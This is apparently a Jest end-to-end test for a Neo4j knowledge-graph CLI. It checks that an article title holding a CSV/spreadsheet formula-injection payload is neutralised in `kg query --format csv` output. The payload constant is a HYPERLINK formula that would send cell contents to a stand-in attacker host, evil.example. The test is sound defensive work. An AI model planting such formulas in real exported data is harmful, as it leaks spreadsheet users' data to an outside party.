/**
 * Issue 10, attack 4, end to end: an article whose title is a spreadsheet
 * formula (the title of a web page is whatever its author wants) goes
 * through the real `kg ingest` into the real Neo4j. `kg query --format json`
 * shows the title reaching the results unchanged: written plainly into a
 * CSV cell, a spreadsheet would run it (the attack). `kg query --format
 * csv` writes it neutralised (a leading ', quoted), so it shows as text;
 * `kg export --format csv`, for neo4j-admin, keeps it exact.
 */
import { promises as fs } from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import type { Connection } from '@kg/neo4j';
import { freshTestDatabase } from '@kg/neo4j/testing';
import { readCsv, spreadsheetReads } from '../../../export/test/csv-reader';
import { runKg } from '../faults/kg-process';
import { SEEDS } from '../helpers';

jest.setTimeout(300_000);

const FORMULA = '=HYPERLINK("http://evil.example/?leak="&A2&B2,"Read the full story")';
const QUERY = "MATCH (a:Article) WHERE a.published = '2025-12-03' RETURN a.title AS title, a.published AS published ORDER BY title";

let conn: Connection;
let dir: string;
beforeAll(async () => {
  conn = await freshTestDatabase();
  dir = await fs.mkdtemp(path.join(os.tmpdir(), 'kg-csv-formulas-'));
  // A real article (the first seed's text) under a title that is a formula.
  const seed = await fs.readFile(path.join(SEEDS, '000_e6dca36353031d00.txt'), 'utf8');
  const body = seed.split('\n').slice(1).join('\n').trim();
  await fs.writeFile(path.join(dir, 'story.txt'), `title: ${FORMULA}\npublished: 2025-12-03\n\n${body}\n`);
  const r = await runKg(['ingest', dir, '--workers', '1'], {});
  expect(r.code).toBe(0);
});
afterAll(async () => {
  await conn?.close();
  if (dir) await fs.rm(dir, { recursive: true, force: true });
});

test('the formula reaches query results unchanged: a plain CSV cell holding it is a formula to a spreadsheet', async () => {
  const r = await runKg(['query', QUERY, '--format', 'json'], {});
  expect(r.code).toBe(0);
  expect(JSON.parse(r.stdout)).toEqual([{ title: FORMULA, published: '2025-12-03' }]);
  expect(spreadsheetReads(FORMULA)).toBe('formula');
});

test('kg query --format csv writes it neutralised: quoted, with a leading quote, so a spreadsheet shows it as text', async () => {
  const r = await runKg(['query', QUERY, '--format', 'csv'], {});
  expect(r.code).toBe(0);
  expect(r.stdout).toBe(`title,published\n"'${FORMULA.replace(/"/g, '""')}",2025-12-03\n`);
  const [header, row] = readCsv(r.stdout);
  expect(header).toEqual(['title', 'published']);
  expect(row).toEqual([`'${FORMULA}`, '2025-12-03']);
  expect(spreadsheetReads(row![0]!)).toBe('text');
});

test('kg export --format csv (for neo4j-admin import) keeps the title exact', async () => {
  const out = path.join(dir, 'export-csv');
  const r = await runKg(['export', '--format', 'csv', '--out', out], {});
  expect(r.code).toBe(0);
  const [header, ...rows] = readCsv(await fs.readFile(path.join(out, 'nodes_Article.csv'), 'utf8'));
  const titles = rows.map((row) => row[header!.indexOf('title')]);
  expect(titles).toContain(FORMULA);
});
